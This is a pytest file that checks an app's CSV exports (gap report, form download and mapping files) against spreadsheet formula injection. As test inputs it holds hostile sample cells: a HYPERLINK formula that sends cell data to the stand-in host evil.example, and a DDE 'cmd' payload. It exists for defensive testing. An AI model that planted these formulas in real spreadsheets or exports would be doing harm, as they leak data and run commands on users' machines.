"""Issue 14: no CSV we write holds a cell a spreadsheet would evaluate (formula injection), on both back ends."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient

from app.core.csv_cells import TRIGGERS, cell
from app.exports.rows import MappingRow
from app.exports.spreadsheet import write_csv
from tests.test_inventory import CV_RANKER

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def dangerous(text: str) -> list[str]:
    """Every cell of a CSV text that a spreadsheet would read as a formula."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c.startswith(TRIGGERS)]


def hostile_description() -> dict[str, object]:
    measures = [
        {"id": formula, "addresses": ["eu-ai-act:Article-9"], "status": "implemented", "evidence": formula}
        for formula in FORMULAS
    ]
    return {**CV_RANKER, "id": "urn:test:csv", "name": FORMULAS[0], "measures": measures}


def test_the_gap_report_csv_neutralises_formulas(client: TestClient) -> None:
    response = client.post("/gap-analysis?format=csv", json=hostile_description())
    assert response.status_code == 200, response.text
    assert dangerous(response.text) == []
    cells = [c for row in csv.reader(io.StringIO(response.text)) for c in row]
    assert any(c.startswith("'+1+cmd") for c in cells)  # kept, as text (the evidence column)


def test_the_form_download_neutralises_formulas(client: TestClient) -> None:
    form = {"description": json.dumps(hostile_description()), "format": "csv"}
    response = client.post("/ui/gaps", data=form)
    assert response.status_code == 200, response.text
    assert dangerous(response.text) == []


def test_mapping_csvs_neutralise_formulas() -> None:
    row = MappingRow(
        mapping="urn:m",
        direction="out",
        subject="urn:s",
        subject_notation="=1+1",
        subject_label="+label",
        subject_regime="r",
        object="urn:o",
        object_notation="@o",
        object_label="-o",
        object_regime="q",
        relationship="equal",
        rationale="\t=tab",
        justification="\r=cr",
        confidence=Decimal("0.9"),
        agent="urn:a",
        agent_label="=agent",
        source="",
        mapping_set="",
        comment="",
        derived=False,
        derived_from=(),
    )
    assert dangerous(write_csv([row, replace(row, derived=True)])) == []  # GET /crosswalk's CSV too


@pytest.mark.parametrize("value", ["plain", "a=b", "", "0.5", "https://x.example/=y"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert cell(value) == value
